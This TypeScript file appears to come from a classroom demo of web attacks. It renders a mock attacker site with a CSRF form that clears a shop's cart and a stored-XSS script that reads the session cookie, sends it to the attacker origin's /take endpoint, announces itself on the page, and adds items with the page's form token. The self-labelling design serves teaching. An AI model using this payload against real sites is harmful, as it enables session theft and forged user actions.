import type english from '../../languages/en/attack.json';

type AttackKey = keyof typeof english;
/** What the attacker's pages say. They are props of an experiment: each names itself on its first line. */
export type SayAttack = (key: AttackKey, values?: Readonly<Record<string, string>>) => string;

/** What was caught, as pages may show it. */
export interface ShownCatch {
  /** The start of the stolen value; "" when a script came without one. */
  readonly hint: string;
}

/**
 * The form asks for nothing that a stranger could get: one that fills a cart would give a visitor without a ticket a new session,
 * and so push her own ticket out of her browser.
 *
 * @param shop the shop's origin: the form's address is there.
 */
export function prizePage(say: SayAttack, shop: string): string {
  return page(
    say,
    say('attack.prizeTitle'),
    `<p>${escapeHtml(say('attack.prizeText'))}</p>
<form method="post" action="${escapeHtml(shop)}/cart/clear">
<button>${escapeHtml(say('attack.prizeButton'))}</button>
</form>`,
  );
}

export function caughtPage(say: SayAttack, caught: readonly ShownCatch[]): string {
  const lines = caught.map(({ hint }) =>
    hint === '' ? `<li>${escapeHtml(say('attack.caughtEmpty'))}</li>` : `<li><code>${escapeHtml(hint)}…</code></li>`,
  );
  const list = lines.length === 0 ? `<p>${escapeHtml(say('attack.caughtNothing'))}</p>` : `<ol>${lines.join('')}</ol>`;
  return page(say, say('attack.caughtTitle'), list);
}

export function attackHome(say: SayAttack): string {
  const door = (path: string, title: string) => `<li><a href="${path}">${escapeHtml(title)}</a></li>`;
  return page(
    say,
    say('attack.title'),
    `<p>${escapeHtml(say('attack.home'))}</p><ul>${door('/prize', say('attack.prizeTitle'))}${door('/caught', say('attack.caughtTitle'))}</ul>`,
  );
}

/**
 * The script that a role of the article's form brings into the shop's page, when output is not escaped: it tells the person
 * what it reads, sends that away, and fills the cart with the page's own form token.
 *
 * @param self the attacker's origin. @param cookieName the ticket's.
 */
export function prankScript(say: SayAttack, self: string, cookieName: string): string {
  return `(async () => {
  const pair = document.cookie.split('; ').find((one) => one.startsWith(${JSON.stringify(`${cookieName}=`)})) ?? '';
  const ticket = pair.slice(pair.indexOf('=') + 1);
  new Image().src = ${JSON.stringify(`${self}/take?ticket=`)} + encodeURIComponent(ticket);
  let last = document.querySelector('h1');
  const say = (text) => {
    const line = document.createElement('p');
    line.className = 'warning';
    line.setAttribute('role', 'alert');
    line.textContent = text;
    last.after(line);
    last = line;
  };
  const shown = decodeURIComponent(ticket).replace(/^s:/, '').slice(0, 4) + '…';
  say(ticket === '' ? ${JSON.stringify(say('attack.scriptReadsNothing'))} : ${JSON.stringify(say('attack.scriptReads', { ticket: '%s' }))}.replace('%s', shown));
  const token = document.querySelector('input[name="_token"]')?.value ?? '';
  const form = new URLSearchParams({ product: 'juice', count: '9', _token: token });
  const answer = await fetch('/cart/add', { method: 'POST', body: form });
  if (answer.ok) say(${JSON.stringify(say('attack.scriptActs'))});
})();
`;
}

function page(say: SayAttack, title: string, content: string): string {
  return `<!doctype html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width">
<title>${escapeHtml(title)}</title><style>
:root{color-scheme:light dark}
body{margin:0;font:16px/1.5 system-ui,sans-serif}
.label{margin:0;padding:6px 24px;background:#8d1b1f;color:#fff;font-size:14px}
main{padding:4px 24px 16px;max-width:46rem}
h1{margin:8px 0;font-size:22px}
p,ol,ul{margin:8px 0}
::-webkit-scrollbar{width:8px;height:8px}
::-webkit-scrollbar-thumb{border:2px solid transparent;border-radius:99px;background:#8f897c content-box}
button{padding:10px 18px;font:inherit;font-weight:600}
</style></head><body><p class="label">${escapeHtml(say('attack.label'))}</p><main><h1>${escapeHtml(title)}</h1>${content}</main></body></html>`;
}

function escapeHtml(text: string): string {
  const names: Readonly<Record<string, string>> = {
    '&': '&amp;',
    '<': '&lt;',
    '>': '&gt;',
    '"': '&quot;',
    "'": '&#39;',
  };
  return text.replace(/[&<>"']/g, (sign) => names[sign] ?? sign);
}
